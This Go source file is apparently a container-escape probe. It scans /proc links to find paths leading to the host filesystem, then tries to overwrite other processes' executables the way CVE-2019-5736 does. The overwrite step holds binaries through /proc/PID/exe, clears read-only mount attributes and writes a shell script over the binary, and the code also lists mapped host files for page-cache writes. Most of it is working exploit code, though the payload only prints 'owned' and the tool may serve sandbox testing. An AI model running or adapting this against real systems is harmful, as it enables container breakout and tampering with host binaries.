package main

import (
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// spy looks through the links of /proc/PID, which lead to what a process has open, whatever the
// mounts around it.
type spy struct {
	canary string // path of a file that only the host has, relative to its root
	told   map[string]bool
	caught map[string]bool // the pids whose descriptors could be listed
	writer *overwriter     // tries their programs
}

func newSpy(canary string) *spy {
	return &spy{strings.TrimPrefix(canary, "/"), map[string]bool{}, map[string]bool{}, &overwriter{map[string]int{}, true}}
}

// watch looks at all others until the time is over or somebody ends it, and says then, on stderr,
// how many it has got to see.
func (s *spy) watch(seconds string) error {
	err := timed(seconds, s.look)
	fmt.Fprintln(os.Stderr, "caught", len(s.caught))
	return err
}

// tell prints each kind of finding once.
func (s *spy) tell(kind, link, target string) {
	if !s.told[kind+target] {
		s.told[kind+target] = true
		pid := strings.SplitN(link, "/", 4)[2]
		command, _ := os.ReadFile("/proc/" + pid + "/cmdline")
		exe, _ := os.Readlink("/proc/" + pid + "/exe")
		fmt.Println(kind, link, target, "of", exe, strings.ReplaceAll(string(command), "\x00", " "))
	}
}

func (s *spy) look(pid string) {
	dir := "/proc/" + pid
	for _, name := range []string{"root", "cwd"} {
		s.follow(dir + "/" + name)
	}
	s.writer.look(pid)
	fds, err := os.Open(dir + "/fd")
	if err != nil {
		return
	}
	defer fds.Close()
	names, err := fds.Readdirnames(-1)
	if err != nil {
		return
	}
	s.caught[pid] = true
	for _, name := range names {
		if name > "2" || len(name) > 1 { // the standard streams are given to the container
			s.follow(dir + "/fd/" + name)
		}
	}
}

// follow tells if a link leads to the host: to a directory from which the canary can be found, or
// to a file of the host's that is neither a pipe, a socket nor anonymous.
func (s *spy) follow(link string) {
	target, err := os.Readlink(link)
	if err != nil {
		return
	}
	fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil {
		return
	}
	const up = "../../../../../../../../../../../../../../../../"
	if out, err := unix.Openat(fd, up+s.canary, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
		unix.Close(out)
		s.tell("host", link, target)
	}
}

// overwriter tries to get a program that somebody else runs open for writing, as CVE-2019-5736
// does: it holds on to the file by a link, and waits for the process to be gone, for until then
// writing is ETXTBSY.
type overwriter struct {
	held  map[string]int
	quiet bool // says only what it could do, not what it saw
}

func newOverwriter() *overwriter { return &overwriter{map[string]int{}, false} }

func (o *overwriter) look(pid string) {
	link := "/proc/" + pid + "/exe"
	target, err := os.Readlink(link)
	if err != nil || strings.HasPrefix(target, "/bin/") || strings.HasPrefix(target, "/racer") {
		return
	}
	if _, known := o.held[target]; !known {
		fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			return
		}
		o.held[target] = fd
		if !o.quiet {
			fmt.Println("saw", target)
			o.mapped(pid)
		}
	}
	o.write()
}

// mapped prints the files that the process has mapped: any of the host's could be written to by way
// of its page cache.
func (o *overwriter) mapped(pid string) {
	maps, _ := os.ReadFile("/proc/" + pid + "/maps")
	seen := map[string]bool{}
	for line := range strings.Lines(string(maps)) {
		if i := strings.IndexByte(line, '/'); i >= 0 && !seen[line[i:]] {
			seen[line[i:]] = true
			fmt.Print("mapped ", line[i:])
		}
	}
}

func (o *overwriter) write() {
	for target, held := range o.held {
		attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
		if err := unix.MountSetattr(held, "", unix.AT_EMPTY_PATH, &attr); err == nil {
			fmt.Println("made the mount of", target, "writable")
		}
		for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
			fd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", held), flags|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			// A sealed memfd can be opened, and that is all.
			n, err := unix.Write(fd, []byte("#!/bin/sh\necho owned\n"))
			unix.Close(fd)
			if err == nil {
				fmt.Println("opened", target, "for writing:", n)
			} else if !o.quiet {
				fmt.Println("opened", target, "and could not write:", err)
			}
		}
	}
}
